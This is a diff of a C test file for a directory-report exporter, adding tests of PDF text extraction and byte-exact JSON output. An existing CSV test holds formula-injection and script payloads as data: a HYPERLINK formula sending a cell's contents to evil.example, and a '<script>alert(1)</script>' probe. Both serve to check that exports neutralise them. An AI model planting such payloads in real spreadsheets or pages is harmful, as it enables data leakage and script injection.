@@ -363,7 +363,8 @@ test_hostile_csv (void)
   g_assert_nonnull (strstr (copy, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
                                   "\"\"Click\"\")\","));
   g_assert_nonnull (strstr (copy, ",'+user0@contoso.com,'-2+3,"));
-  g_assert_nonnull (strstr (copy, ",'@SUM(1+1)\t<script>alert(1)</script>,"));
+  /* Quoted: LibreOffice splits at tabs and ';' by default. */
+  g_assert_nonnull (strstr (copy, ",\"'@SUM(1+1)\t<script>alert(1)</script>\","));
   g_assert_nonnull (strstr (copy, ",\"'\rsmtp:sales@contoso.com\","));
   g_assert_nonnull (strstr (copy, "2026-11-23T18:54:02Z\r\n"));
   g_assert_null (strstr (copy, ",=")); g_assert_null (strstr (copy, ",+"));
@@ -472,6 +473,55 @@ test_hostile_pdf (void)
   g_assert_null (strstr (text, RLO));
 }
 
+/* Object cells of plain ASCII are shaped and drawn without a PangoLayout
+ * (dsc-export-pdf.c): their text must come out of the PDF as with one,
+ * ligatures ("fi", "ffi") and values cut with "…" included. */
+static void
+test_pdf_ascii_cells (void)
+{
+  g_autoptr(DscSnapshot) s = dsc_snapshot_new ();
+  g_autoptr(DscReport) report = NULL;
+  g_autoptr(GBytes) bytes = NULL;
+  g_autofree char *text = NULL;
+  DscFinding *f;
+
+  if (!have_pdftotext ())
+    {
+      g_test_skip ("pdftotext (poppler-utils) is not installed");
+      return;
+    }
+  s->taken_at = T0;
+  s->tenant_name = g_strdup ("Contoso");
+  for (guint i = 0; i < DSC_N_SOURCES; i++)
+    dsc_snapshot_set_source (s, i, DSC_SOURCE_STATE_OK, NULL, NULL, NULL);
+  report = dsc_report_new (s, T0);
+  f = dsc_report_add_finding (report, DSC_CATEGORY_OBJECT_ERRORS, DSC_STATUS_ERROR,
+                              "object-errors/x", "Conflict", NULL);
+  for (guint i = 0; i < 3; i++)
+    {
+      g_autoptr(DscDirectoryObject) o = dsc_directory_object_new (DSC_OBJECT_USER);
+
+      o->id = g_strdup_printf ("id-%u", i);
+      o->display_name = g_strdup (i == 0 ? "Official Griffin" : "Zo\xc3\xab Waffle");
+      o->user_principal_name = g_strdup_printf ("a.very.long.principal.name.%u.that.is.cut"
+                                                "@contoso.com", i);
+      dsc_finding_add_object (f, o, "fluffy", "", T0 - 60, TRUE);
+      g_ptr_array_add (report->snapshot->objects, dsc_directory_object_ref (o));
+    }
+  dsc_report_finish (report);
+  bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_PDF);
+  text = pdf_to_text (bytes);
+  g_assert_nonnull (text);
+  g_assert_nonnull (strstr (text, "Official Griffin"));
+  /* Not ASCII: laid out by Pango, in the same row as ASCII cells. */
+  g_assert_nonnull (strstr (text, "Zo\xc3\xab Waffle"));
+  g_assert_nonnull (strstr (text, "fluffy"));
+  g_assert_nonnull (strstr (text, "a.very.long.princ"));
+  g_assert_nonnull (strstr (text, "…"));
+  g_assert_null (strstr (text, "is.cut@contoso.com"));
+  g_assert_nonnull (strstr (text, "2026-11-23"));
+}
+
 /* The JSON export is the schema's document. */
 static void
 test_json_schema (void)
@@ -511,6 +561,104 @@ test_json_schema (void)
 
     g_assert_true (json_node_equal (node, json_parser_get_root (parser)));
   }
+}
+
+/* The JSON export is written by hand, streaming (dsc-export-json.c): it must
+ * stay the bytes json-glib's generator makes of dsc_report_to_json(), with
+ * invalid UTF-8 repaired, pretty below 10 000 objects and compact above. */
+static void
+make_valid (JsonNode *node)
+{
+  if (JSON_NODE_HOLDS_OBJECT (node))
+    {
+      JsonObjectIter iter;
+      JsonNode *member;
+
+      json_object_iter_init (&iter, json_node_get_object (node));
+      while (json_object_iter_next (&iter, NULL, &member))
+        make_valid (member);
+    }
+  else if (JSON_NODE_HOLDS_ARRAY (node))
+    {
+      JsonArray *array = json_node_get_array (node);
+
+      for (guint i = 0; i < json_array_get_length (array); i++)
+        make_valid (json_array_get_element (array, i));
+    }
+  else if (json_node_get_value_type (node) == G_TYPE_STRING &&
+           !g_utf8_validate (json_node_get_string (node), -1, NULL))
+    {
+      g_autofree char *valid = g_utf8_make_valid (json_node_get_string (node), -1);
+
+      json_node_set_string (node, valid);
+    }
+}
+
+static void
+assert_json_as_generator (const DscReport *report, gboolean pretty)
+{
+  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_JSON);
+  g_autoptr(JsonNode) node = dsc_report_to_json (report);
+  g_autoptr(JsonGenerator) generator = json_generator_new ();
+  g_autoptr(GString) expected = g_string_new (NULL);
+  gsize length;
+  const char *actual = g_bytes_get_data (bytes, &length);
+  gsize i = 0;
+
+  make_valid (node);
+  json_generator_set_pretty (generator, pretty);
+  json_generator_set_root (generator, node);
+  json_generator_to_gstring (generator, expected);
+  g_string_append_c (expected, '\n');
+
+  /* Not g_assert_cmpmem: the big report is megabytes. */
+  while (i < length && i < expected->len && actual[i] == expected->str[i])
+    i++;
+  if (i != length || i != expected->len)
+    g_error ("JSON export differs from json-glib at byte %" G_GSIZE_FORMAT ": “%.60s” "
+             "instead of “%.60s”", i, actual + MIN (i, length), expected->str + i);
+}
+
+static void
+test_json_as_generator (void)
+{
+  for (guint i = 0; i < G_N_ELEMENTS (scenarios); i++)
+    {
+      g_autoptr(DscReport) report = load_report (scenarios[i]);
+
+      assert_json_as_generator (report, TRUE);
+    }
+  {
+    g_autoptr(DscReport) report = make_hostile_report (10);
+
+    /* Every control character json-glib escapes (\x1f aside, see below). */
+    g_free (report->tiles[0].summary);
+    report->tiles[0].summary = g_strdup ("\x01\x02\b\t\n\x0b\f\r\x1b\x1e\x7f \\ \" /");
+    assert_json_as_generator (report, TRUE);
+  }
+  {
+    g_autoptr(DscReport) report = make_hostile_report (10000);
+
+    assert_json_as_generator (report, FALSE);
+  }
+}
+
+/* json-glib 1.6 writes U+001F raw, which is not JSON (RFC 8259 wants every
+ * character below U+0020 escaped): the export escapes it. */
+static void
+test_json_escapes_unit_separator (void)
+{
+  g_autoptr(DscReport) report = make_hostile_report (1);
+  g_autoptr(GBytes) bytes = NULL;
+  gsize length;
+  const char *text;
+
+  g_free (report->tiles[0].summary);
+  report->tiles[0].summary = g_strdup ("a\x1f" "b");
+  bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_JSON);
+  text = g_bytes_get_data (bytes, &length);
+  g_assert_null (memchr (text, 0x1f, length));
+  g_assert_nonnull (g_strstr_len (text, length, "\"a\\u001fb\""));
 }
 
 /* Writing files */
@@ -704,7 +852,10 @@ main (int argc, char **argv)
   g_test_add_func ("/core/export/hostile/json", test_hostile_json);
   g_test_add_func ("/core/export/hostile/prometheus", test_hostile_prometheus);
   g_test_add_func ("/core/export/hostile/pdf", test_hostile_pdf);
+  g_test_add_func ("/core/export/pdf-ascii-cells", test_pdf_ascii_cells);
   g_test_add_func ("/core/export/json-matches-schema", test_json_schema);
+  g_test_add_func ("/core/export/json-as-json-glib-writes-it", test_json_as_generator);
+  g_test_add_func ("/core/export/json-escapes-unit-separator", test_json_escapes_unit_separator);
   g_test_add_func ("/core/export/file/replaces-atomically", test_file_replaces_atomically);
   g_test_add_func ("/core/export/file/unwritable", test_file_unwritable);
   g_test_add_func ("/core/export/file/disk-full", test_disk_full);
